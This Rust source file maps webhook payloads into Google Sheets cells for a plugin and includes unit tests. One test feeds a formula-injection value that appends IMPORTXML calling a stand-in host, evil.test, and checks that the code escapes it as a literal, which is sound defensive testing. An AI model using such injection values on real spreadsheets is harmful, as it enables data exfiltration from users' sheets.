//! From what set the plugin running to cells: the operator's columns.

use hookyard_plugin_sdk::template::{self, Renderer};
use hookyard_plugin_sdk::{Delivery, Failure, Trigger};
use serde::Deserialize;
use serde_json::Value;

use crate::cell::{Cell, MAX_CHARACTERS, TooLong, Type, formula_literal};

/// One column of the configuration.
#[derive(Clone, Debug, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Column {
    /// Its heading; an existing column is found by it.
    pub title: String,
    /// A JSON pointer into the payload (RFC 6901), or a template.
    pub value: String,
    /// How it takes its values.
    #[serde(default, rename = "type")]
    pub kind: Type,
}

impl Column {
    fn is_pointer(&self) -> bool {
        self.value.starts_with('/')
    }
}

/// The cells of one row by the titles of their columns.
pub(crate) type Row = Vec<(String, Cell)>;

/// The row that the columns make of a trigger. A value that is not there makes an empty cell.
pub(crate) fn row(columns: &[Column], trigger: &Trigger, delivery: &Delivery) -> Result<Row, Failure> {
    if columns.is_empty() {
        return Err(Failure::reject(
            "there are no `columns` to put this event into; add them under this plugin's config in plugins.toml",
        ));
    }
    let source = Source::new(columns, trigger, delivery);
    columns.iter().map(|column| source.cell(column)).collect()
}

/// Where a row's values come from.
struct Source {
    context: Value,
    renderer: Option<Renderer>,
}

impl Source {
    fn new(columns: &[Column], trigger: &Trigger, delivery: &Delivery) -> Self {
        let templated = columns.iter().any(|column| !column.is_pointer());
        Self {
            context: template::context(trigger, delivery),
            renderer: templated.then(|| Renderer::new(trigger, delivery, formula_literal)),
        }
    }

    fn cell(&self, column: &Column) -> Result<(String, Cell), Failure> {
        let value = match &self.renderer {
            Some(renderer) if !column.is_pointer() => Value::String(rendered(renderer, column)?),
            _ => self.context["body"]
                .pointer(&column.value)
                .cloned()
                .unwrap_or_default(),
        };
        let cell = Cell::new(column.kind, &column.title, &value)
            .map_err(|long| too_long(long, &format!("column `{}`", column.title)))?;
        Ok((column.title.clone(), cell))
    }
}

/// In a formula each value stands as a literal, so that a payload can fill it and not change it.
fn rendered(renderer: &Renderer, column: &Column) -> Result<String, Failure> {
    let text = match column.kind {
        Type::Formula => renderer.render(&column.title, &column.value)?,
        _ => renderer.render_raw(&column.title, &column.value)?,
    };
    Ok(text)
}

/// The rejection of a text that no cell can hold.
pub(crate) fn too_long(long: TooLong, place: &str) -> Failure {
    Failure::reject(format!(
        "{place}: the text has {} characters and a cell of Google Sheets holds {MAX_CHARACTERS}; shorten it, or \
         leave the field out",
        long.0
    ))
}

#[cfg(test)]
mod tests {
    use super::*;
    use hookyard_plugin_sdk::testing::{self, Host};
    use serde_json::json;

    fn column(title: &str, value: &str, kind: Type) -> Column {
        Column {
            title: title.to_owned(),
            value: value.to_owned(),
            kind,
        }
    }

    fn row_of(columns: &[Column], body: &Value) -> Result<Row, Failure> {
        let trigger = Trigger::Webhook(testing::event("shop", "paid", body));
        let delivery = Delivery {
            id: "d".to_owned(),
            attempt: 1,
        };
        row(columns, &trigger, &delivery)
    }

    #[test]
    fn pointers_and_templates() {
        let _host = Host::new();
        let columns = [
            column("Who", "/customer/name", Type::Auto),
            column("Cent", "/items/1/cents", Type::Auto),
            column("Gone", "/no/such", Type::Auto),
            column("Line", "{{ event.source }}: {{ body.customer.name }}", Type::Auto),
            column("Sum", "{{ body.items[0].cents + 1 }}", Type::Number),
            column("At", "{{ event.received_at }}", Type::DateTime),
            column("a/b", "/a~1b", Type::Auto),
        ];
        let body =
            json!({"customer": {"name": "Zoë \"=1\" 🦀"}, "items": [{"cents": 1}, {"cents": 2}], "a/b": "x"});
        let cells: Vec<_> = row_of(&columns, &body)
            .unwrap()
            .into_iter()
            .map(|(_, cell)| cell)
            .collect();
        assert_eq!(
            cells,
            [
                Cell::Text("Zoë \"=1\" 🦀".to_owned()),
                Cell::Number(2.0),
                Cell::Empty,
                Cell::Text("shop: Zoë \"=1\" 🦀".to_owned()),
                Cell::Number(2.0),
                Cell::DateTime(46_023.0),
                Cell::Text("x".to_owned()),
            ]
        );
    }

    #[test]
    fn a_payload_fills_a_formula_and_cannot_change_it() {
        let _host = Host::new();
        let columns = [column(
            "Link",
            "=HYPERLINK({{ body.url }}, {{ body.n }})",
            Type::Formula,
        )];
        let body = json!({"url": "x\")&IMPORTXML(\"http://evil.test", "n": 3});
        assert_eq!(
            row_of(&columns, &body).unwrap()[0].1,
            Cell::Formula("=HYPERLINK(\"x\"\")&IMPORTXML(\"\"http://evil.test\", 3)".to_owned())
        );
    }

    #[test]
    fn what_no_cell_can_hold_names_its_column() {
        let _host = Host::new();
        let long = "x".repeat(MAX_CHARACTERS + 1);
        let failure = row_of(&[column("Note", "/note", Type::Auto)], &json!({"note": long})).unwrap_err();
        assert!(
            failure
                .reason()
                .contains("column `Note`: the text has 50001 characters"),
            "{failure:?}"
        );
        assert!(!failure.is_retryable());
        assert!(
            row_of(&[], &json!({}))
                .unwrap_err()
                .reason()
                .contains("`columns`")
        );
    }
}
